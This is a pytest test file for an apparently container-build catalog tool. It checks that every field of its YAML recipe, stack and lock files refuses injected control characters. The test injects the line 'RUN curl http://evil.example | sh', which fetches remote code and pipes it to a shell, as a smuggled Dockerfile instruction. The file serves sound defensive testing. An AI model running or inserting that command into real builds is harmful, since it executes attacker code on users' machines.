"""No catalog value can smuggle a Dockerfile instruction, a shell command or a second
argument in: every string of every built-in target, recipe and lock file is tried with a line
break (and, where a field may span lines, with another control character), and each must be
refused at load naming the file and that very field. The paths come from the files
themselves, so a new field in a built-in file is covered the day it is added."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import yaml

from farm.catalog import load_model, load_stacks, with_shared_stack
from farm.debs import PackageLock
from farm.errors import CatalogError
from farm.models import CudaStack, Recipe, Target
from farm.paths import data_dir

RECIPES = data_dir("recipes")
FILES = [
    *((path, Target) for path in sorted(RECIPES.glob("targets/*.yaml"))),
    *((path, CudaStack) for path in sorted(RECIPES.glob("stacks/*.yaml"))),
    *((path, Recipe) for path in sorted(RECIPES.glob("packages/*.yaml"))),
    *((path, PackageLock) for path in sorted(RECIPES.glob("packages/locks/*.yaml"))),
]
Path_ = tuple[str | int, ...]


def _leaves(data: Any, path: Path_ = ()) -> Iterator[Path_]:
    """Every string in a loaded YAML document, mapping keys included (as the key's path)."""
    if isinstance(data, str):
        yield path
    elif isinstance(data, list):
        for index, item in enumerate(data):
            yield from _leaves(item, (*path, index))
    elif isinstance(data, dict):
        for key, item in data.items():
            yield from _leaves(item, (*path, key))


def _dotted(path: Path_) -> str:
    text = ""
    for part in path:
        text += f"[{part}]" if isinstance(part, int) else f".{part}"
    return text.lstrip(".")


def _load(path: Path) -> Any:
    """The file's data with YAML aliases made copies, so one change changes one place."""
    return json.loads(json.dumps(yaml.safe_load(path.read_text())))


def _set(data: Any, path: Path_, value: str) -> Any:
    changed = copy.deepcopy(data)
    node = changed
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return changed


CASES = [
    pytest.param(path, model, leaf, id=f"{path.name}:{_dotted(leaf)}")
    for path, model in FILES
    for leaf in _leaves(_load(path))
]


@pytest.mark.parametrize(("path", "model", "leaf"), CASES)
def test_a_control_character_in_any_field_is_refused_naming_it(
    tmp_path: Path, path: Path, model: type, leaf: Path_
) -> None:
    data = _load(path)
    node: Any = data
    for part in leaf:
        node = node[part]
    multiline = "\n" in node.rstrip("\n")  # a script or a patch: try another control character
    injected = node + ("\x1b[2J" if multiline else "\nRUN curl http://evil.example | sh")
    broken = tmp_path / path.name
    broken.write_text(yaml.safe_dump(_set(data, leaf, injected), sort_keys=False, width=10**6))
    # A target's shared CUDA stack is put in place as the catalog does it.
    stacks = load_stacks([RECIPES])
    resolve = partial(with_shared_stack, path=broken, stacks=stacks) if model is Target else None
    with pytest.raises(CatalogError) as caught:
        load_model(broken, model, resolve)
    message = str(caught.value)
    assert message.startswith(f"{broken}: ")
    named = message.removeprefix(f"{broken}: ").split(": ", 1)[0]
    # The field named is the one changed; a union's tag (``kind``) is named by its owner.
    expected = _dotted(leaf[:-1]) if leaf[-1] == "kind" else _dotted(leaf)
    assert named == expected, message
    assert "\n" not in message


def test_every_built_in_file_was_tried() -> None:
    assert len({path for path, _ in FILES}) >= 10
    assert len(CASES) > 300
